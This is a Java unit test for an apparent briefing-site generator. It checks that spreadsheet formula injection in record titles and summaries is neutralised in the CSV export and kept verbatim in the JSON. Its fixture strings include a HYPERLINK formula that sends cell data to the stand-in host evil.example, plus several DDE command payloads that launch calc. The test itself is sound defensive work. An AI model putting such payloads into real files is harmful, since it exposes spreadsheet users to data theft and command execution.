package org.briefing.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A record whose title and summary an attacker wrote as spreadsheet formulas: the built {@code
 * engagements.csv} opens with them as text (an apostrophe first), while {@code engagements.json}
 * keeps them exactly as written.
 */
class SpreadsheetExportTest {

  @Test
  void formulasInARecordOpenAsTextInTheCsvAndStayAsWrittenInTheJson(@TempDir Path tmp)
      throws Exception {
    Fixture site = new Fixture(tmp);
    String title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Qatar and Syria\")";
    String summary = "+cmd|' /C calc'!A0";
    String arTitle = "@SUM(1+1)*cmd|' /C calc'!A0";
    String arSummary = "-2+3+cmd|' /C calc'!A0";
    Files.writeString(
        site.dir(Fixture.ID).resolve("en.md"),
        Fixture.EN
            .replace(
                "title: Qatar and Syria sign a civil defence agreement",
                "title: '" + title.replace("'", "''") + "'")
            .replace(
                "summary: The two countries agreed to train rescue teams together.",
                "summary: '" + summary.replace("'", "''") + "'"),
        StandardCharsets.UTF_8);
    String ar =
        Fixture.AR
            .replaceFirst("(?m)^title: .*$", "title: '" + arTitle.replace("'", "''") + "'")
            .replaceFirst("(?m)^summary: .*$", "summary: '" + arSummary.replace("'", "''") + "'");
    Files.writeString(site.dir(Fixture.ID).resolve("ar.md"), ar, StandardCharsets.UTF_8);
    Path out = tmp.resolve("out");
    assertTrue(site.build(out).ok(), () -> String.join("\n", site.problems()));

    String csv = Files.readString(out.resolve("data/engagements.csv"), StandardCharsets.UTF_8);
    List<String[]> rows = new ArrayList<>();
    try (var it =
        new CsvMapper()
            .enable(CsvParser.Feature.WRAP_AS_ARRAY)
            .readerFor(String[].class)
            .<String[]>readValues(csv.substring(1))) {
      it.forEachRemaining(rows::add);
    }
    List<String> header = List.of(rows.get(0));
    String[] row = rows.get(1);
    assertEquals("'" + title, row[header.indexOf("title_en")]);
    assertEquals("'" + summary, row[header.indexOf("summary_en")]);
    assertEquals("'" + arTitle, row[header.indexOf("title_ar")]);
    assertEquals("'" + arSummary, row[header.indexOf("summary_ar")]);
    for (String[] r : rows) {
      assertEquals(header.size(), r.length);
      for (String cell : r) {
        assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, cell);
      }
    }

    JsonNode json = new ObjectMapper().readTree(out.resolve("data/engagements.json").toFile());
    String text = json.toString();
    assertTrue(text.contains(new ObjectMapper().writeValueAsString(title)), text);
    assertTrue(text.contains(new ObjectMapper().writeValueAsString(arSummary)), text);
  }
}
